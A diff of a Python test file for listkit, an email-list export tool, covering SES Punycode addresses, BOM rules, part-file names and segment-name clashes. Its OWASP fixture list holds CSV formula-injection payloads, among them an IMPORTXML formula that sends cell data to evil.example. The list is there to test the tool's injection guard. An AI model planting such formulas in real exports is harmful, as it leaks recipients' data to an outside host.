@@ -16,6 +16,7 @@ from conftest import SAMPLE, run_cli, runs_as_formula, tree_digest
 from email_validator import EmailNotValidError, validate_email
 
 import listkit
+from listkit.addresses import ascii_addresses
 from listkit.errors import ConfigError
 from listkit.presets import SEGMENT_PRESETS, SUPPRESSION_PRESETS
 
@@ -36,9 +37,10 @@ OWASP = [
     "\r=1+1",
     "-5 + 1",
     "+44 20 7946 0958",
+    "-2026-01-01",  # a signed date: a spreadsheet computes it
     '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
 ]
-DATA = ["-5", "+44", "3.5", "-3.5e2", "-0", "2026-03-01", "-05:00", "+2026-03-01T10:00:00Z", "-1,5"]
+DATA = ["-5", "+44", "3.5", "-3.5e2", "-0", "2026-03-01", "-05:00", "+0530", "-1,5"]
 
 
 def read_csv_bytes(data: bytes, *, header: bool = True) -> pl.DataFrame:
@@ -79,7 +81,10 @@ def test_every_kept_row_is_in_exactly_one_segment_file_in_each_tools_shape(sampl
     header = ADDRESS_HEADER[preset]
     assert rows.columns[0] == header
     kept = sample_result.ledger.filter(pl.col("outcome") == "keep")
-    assert sorted(rows[header]) == sorted(kept["email_normalized"])  # promise 1, in every shape
+    expected = kept["email_normalized"]
+    if preset == "ses-contacts":  # SES takes ASCII addresses: an internationalised domain in Punycode
+        expected = ascii_addresses(expected).fill_null(expected)
+    assert sorted(rows[header]) == sorted(expected)  # promise 1, in every shape
     suppressed = set(sample_result.suppression["email"].str.to_lowercase())
     assert not set(rows[header].str.to_lowercase()) & suppressed  # promise 2, in every shape
 
@@ -103,7 +108,10 @@ def test_suppression_files_hold_every_suppressed_address_and_nothing_else(sample
             assert set(frame["column_1"]) <= {"BOUNCE", "COMPLAINT"} and frame.width == 2
     assert all(is_address(a) for a in generic["email"])
     if files:
-        assert addresses == set(generic["email"])
+        expected = generic["email"]
+        if SUPPRESSION_PRESETS[preset].ascii_domains:  # SES never sends to a non-ASCII local part
+            expected = ascii_addresses(expected).drop_nulls()
+        assert addresses == set(expected)
 
 
 def test_text_that_is_not_an_address_never_reaches_a_suppression_file(tmp_path):
@@ -126,7 +134,7 @@ def test_text_that_is_not_an_address_never_reaches_a_suppression_file(tmp_path):
     assert manifest["counts"]["suppression_rows"] == 1
 
 
-def test_the_guard_neutralises_every_owasp_payload_and_leaves_signed_numbers_and_dates():
+def test_the_guard_neutralises_every_owasp_payload_and_leaves_signed_numbers_and_offsets():
     from listkit.formula import formula_safe
 
     cells = [*OWASP, "\x00=1+1", *DATA]  # NUL (OWASP's ASVS) cannot come through a CSV input: tested here
@@ -171,24 +179,26 @@ def test_excel_gzip_and_parts_change_the_bytes_not_the_rows(sample_result, tmp_p
                    excel=True, gzip=True, max_rows=7)  # fmt: skip
     for path in shaped.rglob("*.csv*"):
         data = gzip.decompress(path.read_bytes()) if path.suffix == ".gz" else path.read_bytes()
-        assert data.startswith(b"\xef\xbb\xbf"), path.name
+        # Files for people and upload pages get the BOM; Mailgun's API imports never do.
+        assert data.startswith(b"\xef\xbb\xbf") == (not path.name.startswith("mailgun-")), path.name
     ses = tmp_path / "ses"
     listkit.export(sample_result, ses, report=False, suppression_format="ses", excel=True)
     first = (ses / "suppression" / "ses.csv").read_text(encoding="utf-8").splitlines()[0]
     assert is_address(first.split(",")[0]), "no BOM glued to the first address of a file without header"
     assert (ses / "suppression.csv").read_bytes().startswith(b"\xef\xbb\xbf")
-    # Import files are gzipped and split; listkit's own files (ledger, profiles) only get the BOM.
-    assert (shaped / "ledger.csv").read_bytes() == b"\xef\xbb\xbf" + (plain / "ledger.csv").read_bytes()
+    # Import files are gzipped and split; listkit's own files (ledger, suppression.csv) only get the BOM.
+    for name in ("ledger.csv", "suppression.csv"):
+        assert (shaped / name).read_bytes() == b"\xef\xbb\xbf" + (plain / name).read_bytes()
     assert not list(shaped.glob("segments/*.csv")) and not list(shaped.glob("suppression/*.csv"))
     manifest = json.loads((shaped / "manifest.json").read_text())
-    for name in ("segments/", "suppression/", "suppression"):
+    for name in ("segments/", "suppression/"):
         parts = sorted(n for n in manifest["files"] if n.startswith(name) and n.endswith(".csv.gz"))
-        assert parts and all("-part-" in n for n in parts)
+        assert parts and all(".part-" in n for n in parts)
         assert all(1 <= manifest["files"][n]["rows"] <= 7 for n in parts)
     for prefix in ("segments/", "suppression/mailgun-bounces", "suppression/mailgun-unsubscribes"):
         assert read_all(shaped, prefix).equals(read_all(plain, prefix)), prefix
-    engaged = sorted(shaped.glob("segments/engaged-part-*.csv.gz"))
-    assert [p.name for p in engaged[:2]] == ["engaged-part-01.csv.gz", "engaged-part-02.csv.gz"]
+    engaged = sorted(shaped.glob("segments/engaged.part-*.csv.gz"))
+    assert [p.name for p in engaged[:2]] == ["engaged.part-01.csv.gz", "engaged.part-02.csv.gz"]
     assert manifest["export"] == {"format": "sendgrid", "suppression_format": "mailgun", "excel": True,
                                   "gzip": True, "max_rows": 7}  # fmt: skip
 
@@ -207,8 +217,8 @@ def test_a_tools_own_cap_on_one_file_splits_it(tmp_path):
     (table,) = suppression_tables(frame, "ses")
     written = write_csv(table.frame, tmp_path, "ses.csv", import_file=True, header=False,
                         address_columns=("emailAddress",), tool_max_rows=table.max_rows)  # fmt: skip
-    assert written == {"ses-part-01.csv": 100_000, "ses-part-02.csv": 1}
-    assert (tmp_path / "ses-part-02.csv").read_text() == "r100000@example.com,BOUNCE\n"
+    assert written == {"ses.part-01.csv": 100_000, "ses.part-02.csv": 1}
+    assert (tmp_path / "ses.part-02.csv").read_text() == "r100000@example.com,BOUNCE\n"
 
 
 def test_reruns_with_every_option_are_byte_identical(tmp_path):
@@ -280,3 +290,67 @@ def test_the_warm_up_plan_mails_only_kept_readers_in_growing_daily_batches(sampl
     schedule = manifest["warmup"]
     assert sum(row["rows"] for row in schedule if row["day"] is not None) == planned.len()
     assert {row["provider"] for row in schedule} >= {"Gmail", "Microsoft", "Yahoo/AOL"}
+
+
+def test_a_segment_named_like_a_part_of_another_never_overwrites_it(sample_result, tmp_path):
+    # An earlier run's profile may hand on any safe name, "casual.part-01" not among them; and two
+    # outputs under one name are refused rather than one silently replacing the other.
+    renamed = sample_result.ledger.with_columns(
+        segment=pl.when(pl.col("segment") == "engaged").then(pl.lit("casual-part-01")).otherwise("segment")
+    )
+    result = dataclasses.replace(sample_result, ledger=renamed)
+    out = tmp_path / "out"
+    listkit.export(result, out, report=False, max_rows=50)
+    rows = read_all(out, "segments/")
+    assert sorted(rows["email"]) == sorted(renamed.filter(pl.col("outcome") == "keep")["email_normalized"])
+    clash = dataclasses.replace(
+        sample_result,
+        ledger=sample_result.ledger.with_columns(
+            segment=pl.when(pl.col("segment") == "engaged").then(pl.lit("Casual")).otherwise("segment")
+        ),
+    )
+    with pytest.raises(listkit.OutputError, match=r"would both be written as segments/casual\.csv"):
+        listkit.export(clash, tmp_path / "clash", report=False)
+    assert not (tmp_path / "clash").exists()
+
+
+def test_the_generic_suppression_list_is_always_one_plain_file(sample_result, tmp_path):
+    out = tmp_path / "out"
+    listkit.export(sample_result, out, report=False, gzip=True, max_rows=3, suppression_format="klaviyo")
+    frame = read_csv_bytes((out / "suppression.csv").read_bytes())
+    assert frame.height == sample_result.suppression.height > 3
+    assert list(out.glob("suppression/klaviyo.part-*.csv.gz"))
+
+
+def test_sendgrid_field_names_keep_to_its_100_characters_and_unchanged_names_come_first():
+    from listkit.presets import segment_table
+
+    rows = sample_rows().with_columns(
+        pl.lit("x").alias("a" * 300), pl.lit("y").alias("segment_input"), pl.lit("z").alias("segment_input_")
+    )
+    table = segment_table(rows, "sendgrid", passthrough=("a" * 300, "segment_input", "segment_input_"))
+    headers = table.frame.columns
+    assert all(len(h) <= 100 for h in headers) and len(set(h.lower() for h in headers)) == len(headers)
+    assert table.frame["segment_input"].to_list() == ["y"]  # the column that needs no change keeps its name
+
+
+def sample_rows() -> pl.DataFrame:
+    return pl.DataFrame(
+        {"email": ["ann@example.com"], "first_name": ["Ann"], "last_name": [None], "segment": ["engaged"],
+         "source": ["web"], "score": [50.0]},
+        schema_overrides={"last_name": pl.String},
+    ).with_columns(signup_at=pl.lit(None, pl.Datetime("us", "UTC"))).select(
+        "email", "first_name", "last_name", "signup_at", "source", "segment", "score"
+    )  # fmt: skip
+
+
+def test_ses_gets_ascii_addresses(tmp_path):
+    listing = tmp_path / "list.csv"
+    listing.write_text("email,status\njurgen@bücher.de,unsubscribed\nmary@bücher.de,subscribed\n"
+                       "björn@example.com,unsubscribed\n", encoding="utf-8")  # fmt: skip
+    out = tmp_path / "out"
+    args = ["run", "--subscribers", listing, "--out", out, "--no-report", "--format", "ses-contacts"]
+    assert run_cli(*args, "--suppression-format", "ses") == 0
+    assert (out / "suppression" / "ses.csv").read_text() == "jurgen@xn--bcher-kva.de,COMPLAINT\n"
+    segment = read_all(out, "segments/")
+    assert segment["emailAddress"].to_list() == ["mary@xn--bcher-kva.de"]
